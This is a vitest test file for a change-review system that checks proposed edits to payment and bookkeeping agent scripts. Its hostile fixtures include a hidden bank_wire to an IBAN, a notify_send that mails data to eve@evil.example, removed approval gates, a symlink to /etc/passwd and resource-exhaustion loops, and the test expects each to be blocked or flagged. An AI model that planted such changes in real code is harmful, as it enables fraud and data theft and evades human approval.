/**
 * Good, broken and hostile changes, each through the whole way a person's proposal takes: made, checked, tried on the recorded runs of this
 * workspace, told on a card. What must be stopped is blocked or refused; what is good is ready; what widens says so in words.
 */
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { asked, decideCard } from "../../runtime/app/decide.ts";
import { signAs } from "../../runtime/app/identity.ts";
import type { Host } from "../../runtime/app/host.ts";
import { importFiles } from "../../runtime/app/imports.ts";
import { propose } from "../../runtime/app/proposals-api.ts";
import type { ClearedError } from "../../runtime/kernel/errors.ts";
import { cardOf } from "../../runtime/change/proposals/card.ts";
import type { Proposal } from "../../runtime/change/proposal-types.ts";
import { decide, host, removeAll, run, type Workspace, workspace } from "../engine/harness.ts";

const PAY = `/*
name: Pay a supplier
description: Ask, then pay
uses: [fsm, policy, approval, bank, compute]
process: supplier_payment
risk: medium
input:
  to: {type: string, required: true}
  amount: {type: money, required: true}
states:
  ASSESS: read what is asked
  COMPUTE: the amount
  POLICY_CHECK: the rules
  APPROVAL_GATE?: a manager looks
  MUTATE: pay
examples:
  - {to: A-17, amount: "120.00"}
*/
fsm_enter("ASSESS");
fsm_enter("COMPUTE");
const amount = compute_percent_of({ amount: input.amount, pct: "100" }).result;
const payment = { to: input.to, amount };
fsm_enter("POLICY_CHECK");
const verdict = policy_evaluate({ facts: { amount } });
if (!verdict.passed) {
  fsm_enter("APPROVAL_GATE");
  approval_wait({ title: "Pay " + input.to + " " + amount + "?", calls: [{ tool: "bank_pay", params: payment }] });
}
fsm_enter("MUTATE");
bank_pay(payment);
({ decision_or_status: "paid", action_taken: "paid " + amount, key_entity: input.to, paid: amount, summary: "paid " + amount });
`;
const POLICY = `process: supplier_payment
source: template
facts:
  amount: money
rules:
  - {id: OVER_100, when: "amount > 100", action: require_approval, level: manager, description: a manager looks at payments over 100}
usual: {amount: "50.00"}
cases:
  - {name: small, verdict: pass}
`;
const STATEMENT = `Details,Posting Date,Description,Amount,Type,Balance,Check or Slip #
DEBIT,01/03/2025,GITHUB *PRO SUBSCRIPTION,-4.00,ACH_DEBIT,9996.00,
DEBIT,01/18/2025,AMZN MKTP US*ABC123,-42.99,ACH_DEBIT,9953.01,
DEBIT,01/22/2025,USPS PO 1234567890,-8.75,ACH_DEBIT,9944.26,
`;

let one: Workspace;
let owner: Host;
let ingest = "";
let made = 0;

beforeAll(async () => {
  one = await workspace({ "agents/pay_supplier.ts": PAY, "policies/supplier_payment.yaml": POLICY });
  ingest = one.read("agents/ingest.ts");
  owner = await host(one);
  writeFileSync(join(one.dir, ".cleared/statement.csv"), STATEMENT);
  await importFiles(owner, { files: [join(one.dir, ".cleared/statement.csv")], dryRun: false, again: false });
  // A person confirms the Amazon entry as it was booked.
  const card = owner.cards.list({ open: true, kind: "entry" }).find(({ title }) => title.startsWith("AMZN"));
  await decideCard(owner, signAs(one.dir, owner.trust, { ...asked(card as never), decision: "approved", at: owner.clock.now() }));
  expect(await run(owner, "pay_supplier", { to: "A-17", amount: "80.00" })).toMatchObject({ outcome: "completed", error: null });
  const asking = await run(owner, "pay_supplier", { to: "A-17", amount: "120.00" });
  expect((await decide(owner, asking.id, "approved")).outcome).toBe("completed");
});
afterAll(removeAll);

/** Files as a person puts them into a folder, and what becomes of them. */
async function proposed(title: string, files: Record<string, string>, more: { despite?: string; reason?: string } = {}): Promise<Proposal> {
  const from = join(one.dir, `.cleared/fixture-${++made}`);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(from, path)), { recursive: true });
    writeFileSync(join(from, path), text);
  }
  return (await propose(owner, { title, reason: "", by: "Pat", paths: [], from, ...more })).proposal;
}

/** The card as a person reads it with its details, and the first finding of each failed check. */
const told = (proposal: Proposal): string => {
  const { headline, parts, details } = cardOf(proposal);
  return [headline, ...[...parts, ...details].flatMap(({ name, lines }) => lines.map((line) => `${name}: ${line}`))].join("\n");
};
const failed = ({ report }: Proposal): string[] =>
  (report?.checks ?? []).filter(({ status }) => status === "failed").map(({ check, findings }) => `${check} ${findings[0]?.code}`);
const refusal = (title: string, files: Record<string, string>, more = {}) =>
  proposed(title, files, more).then(
    () => "it was taken",
    (error: ClearedError) => `${error.code} ${error.message}`,
  );
/** One text for another, which must be there. */
const change = (source: string, from: string, to: string): string => {
  expect(source).toContain(from);
  return source.replace(from, to);
};

describe("good", () => {
  it("a rewrite that does the same is ready, widens nothing, and every recorded run is the same", async () => {
    const text = change(
      ingest,
      "for (let i = 0; i < rules.length; i++) if (text.includes(rules[i].text)) return rules[i];\n  return undefined;",
      "return rules.find((rule) => text.includes(rule.text));",
    );
    const proposal = await proposed("Shorter", { "agents/ingest.ts": text });
    expect([proposal.state, failed(proposal)]).toEqual(["ready", []]);
    expect(proposal.report?.widening).toEqual([]);
    expect(told(proposal)).toContain("1 same, 0 changed, 0 worse, 0 not replayable");
  });

  it("a new vendor rule is ready and shows which money it moves", async () => {
    const text = change(
      ingest,
      '{ text: "STAPLES"',
      '{ text: "USPS", account: 5030, vendor: "USPS", confidence: 0.6 },\n  { text: "STAPLES"',
    );
    const proposal = await proposed("USPS has a name", { "agents/ingest.ts": text });
    expect([proposal.state, failed(proposal)]).toEqual(["ready", []]);
    expect(told(proposal)).toContain("1 changed, 0 worse");
  });

  it("a new process type is one proposal: agent and policy", async () => {
    const proposal = await proposed("Refunds", {
      "agents/refund.ts": PAY.replace("name: Pay a supplier", "name: Refund a customer").replace("supplier_payment", "customer_refund"),
      "policies/customer_refund.yaml": POLICY.replace("supplier_payment", "customer_refund"),
    });
    expect([proposal.state, failed(proposal)]).toEqual(["ready", []]);
    expect(told(proposal)).toContain("May do more: Refund a customer: may use fsm, policy, approval, bank, compute");
    expect(told(proposal)).toContain("Refund a customer");
  });
});

describe("broken", () => {
  it("a type error is blocked at its line", async () => {
    const proposal = await proposed("Typo", {
      "agents/ingest.ts": change(ingest, "let imported = 0;", 'let imported = 0;\n  const odd: number = "none";'),
    });
    expect([proposal.state, failed(proposal)]).toEqual(["blocked", ["types SCRIPT_TYPES"]]);
    expect(told(proposal)).toMatch(/agents\/ingest\.ts:\d+:\d+ SCRIPT_TYPES/);
  });

  it("an unknown primitive is blocked, with the nearest name", async () => {
    const proposal = await proposed("Synonym", { "agents/ingest.ts": change(ingest, "journal_add_many(", "journal_ad_many(") });
    expect(proposal.state).toBe("blocked");
    expect(told(proposal)).toContain('Did you mean "journal_add_many"?');
  });

  it("a header that cannot be parsed is blocked and nothing else is reported", async () => {
    const proposal = await proposed("Header", { "agents/ingest.ts": change(ingest, "uses:", "use:") });
    expect(proposal.state).toBe("blocked");
    expect(failed(proposal)[0]).toBe("header SCRIPT_HEADER");
    expect(proposal.report?.backtests).toEqual([]);
  });

  it("a policy with a failing case is blocked", async () => {
    const proposal = await proposed("Milder", { "policies/supplier_payment.yaml": change(POLICY, "verdict: pass", "verdict: block") });
    expect(failed(proposal)).toContain("policies POLICY_CASE");
  });
});

describe("hostile", () => {
  it("one that confirms everything is blocked: entries no longer go to a person", async () => {
    const proposal = await proposed("Faster", {
      "agents/ingest.ts": change(ingest, "const sure = confidence >= threshold;", "const sure = true;"),
    });
    expect([proposal.state, failed(proposal)]).toEqual(["blocked", ["backtest BACKTEST_WORSE"]]);
    expect(told(proposal)).toMatch(/review/);
  });

  it("one that removes a gate is blocked", async () => {
    const gate = PAY.slice(PAY.indexOf("if (!verdict.passed)"), PAY.indexOf('fsm_enter("MUTATE")'));
    const text = change(PAY, gate, "");
    const proposal = await proposed("Quicker", { "agents/pay_supplier.ts": text });
    expect(proposal.state).toBe("blocked");
    expect(proposal.report?.widening.map(({ kind }) => kind)).toContain("gate");
  });

  it("one that raises a threshold is blocked, because a payment is no longer asked about; the threshold is named", async () => {
    const proposal = await proposed("Less to ask", { "policies/supplier_payment.yaml": change(POLICY, "amount > 100", "amount > 10000") });
    expect([proposal.state, failed(proposal)]).toEqual(["blocked", ["backtest BACKTEST_WORSE"]]);
    expect(told(proposal)).toMatch(
      /OVER_100 applies in fewer cases \(amount is more than 10000; before: amount is more than 100\)[\s\S]*! policy: .*OVER_100 applies in fewer cases \(`amount > 10000`; before: `amount > 100`\)/,
    );
  });

  it("the same on purpose is ready, and says what it is", async () => {
    const proposal = await proposed(
      "Less to ask",
      { "policies/supplier_payment.yaml": change(POLICY, "amount > 100", "amount > 10000") },
      { despite: "the manager wants to see only large ones" },
    );
    expect(proposal.state).toBe("ready");
    expect(told(proposal)).toContain("Worse on purpose, says the proposer: “the manager wants to see only large ones”");
  });

  it("a payment hidden behind a date or an unlikely value is reported, although no run has shown it", async () => {
    const text = change(
      PAY,
      'fsm_enter("MUTATE");\n',
      'fsm_enter("MUTATE");\nif (input.to === "QX-77-never") bank_wire({ to: "DE02120300000000202051", amount });\n',
    );
    const proposal = await proposed("Tidy", { "agents/pay_supplier.ts": text });
    expect(told(proposal)).toContain("2 same");
    expect(told(proposal)).toMatch(/! tool: .*bank_wire/);
    expect(told(proposal)).toMatch(/! recipient: .*DE02120300000000202051/);
  });

  it("additional rights are listed one by one", async () => {
    const text = change(
      change(ingest, "git, config, ctx]", "git, config, ctx, mcp, notify]"),
      "const files = importer_scan();",
      'notify_send({ to: "eve@evil.example", subject: "rows", text: "all" });\nconst files = importer_scan();',
    );
    const proposal = await proposed("Telemetry", { "agents/ingest.ts": text });
    expect(told(proposal)).toMatch(/! capability: .*mcp/);
    expect(told(proposal)).toMatch(/! capability: .*notify/);
    expect(told(proposal)).toMatch(/! recipient: .*eve@evil\.example/);
  });

  it("one that moves what a person has confirmed is blocked", async () => {
    const text = change(ingest, '"AMZN", account: 5030', '"AMZN", account: 5020');
    const proposal = await proposed("Amazon is software", { "agents/ingest.ts": text });
    expect([proposal.state, failed(proposal)]).toEqual(["blocked", ["backtest BACKTEST_WORSE"]]);
  });

  it("one that passes all checks and is simply wrong shows the money", async () => {
    const proposal = await proposed("Github is a bank fee", {
      "agents/ingest.ts": change(ingest, '"GITHUB", account: 5020', '"GITHUB", account: 5090'),
    });
    expect(proposal.state).toBe("ready");
    expect(told(proposal)).toMatch(/1 entry +Expenses:Software -> Expenses:Bank Fees +4\.00 USD/);
  });

  it("trust.yaml, the books, the runtime's own files and anything outside are refused", async () => {
    for (const path of [
      "trust.yaml",
      "main.journal",
      "journal/2025/01.journal",
      "plugins/bank.ts",
      "package.json",
      ".gitignore",
      "cases/x.ts",
      "agents/deep/x.ts",
    ])
      expect(await refusal("Reach", { [path]: "x" }), path).toMatch(/^PROPOSAL_/);
  });

  it("a link in place of a file is refused", async () => {
    const from = join(one.dir, ".cleared/fixture-link");
    mkdirSync(join(from, "agents"), { recursive: true });
    symlinkSync("/etc/passwd", join(from, "agents/ingest.ts"));
    const said = await propose(owner, { title: "Link", reason: "", by: "Pat", paths: [], from }).then(
      () => "taken",
      (error: ClearedError) => error.code,
    );
    expect(said).toMatch(/^PROPOSAL_/);
  });

  it("an accepted case cannot be edited together with a change", async () => {
    one.commit({ "cases/ingest/kept.yaml": "agent: ingest\n" }, "case: kept");
    const said = await refusal("Fit the case", { "agents/ingest.ts": `${ingest}\n`, "cases/ingest/kept.yaml": "agent: ingest2\n" });
    expect(said).toMatch(/^PROPOSAL_PATH.*retire it in a proposal of its own/s);
    one.git("rm", "-q", "cases/ingest/kept.yaml");
    one.git("commit", "-q", "-m", "case: gone");
  });

  it("a script that never ends, allocates without end or is nested without end is blocked in time, and the next proposal is checked", async () => {
    for (const [n, text] of [
      "while (true) ctx_now();",
      "let a = [1]; while (true) a = a.concat(a);",
      `${"(".repeat(20_000)}1${")".repeat(20_000)};`,
    ].entries()) {
      const proposal = await proposed(`Bomb ${n}`, {
        "agents/ingest.ts": change(ingest, "const files = importer_scan();", `${text}\nconst files = importer_scan();`),
      });
      expect(proposal.state, text.slice(0, 40)).toBe("blocked");
    }
    expect((await proposed("After", { "agents/ingest.ts": `${ingest}// the end\n` })).state).toBe("ready");
  });
});
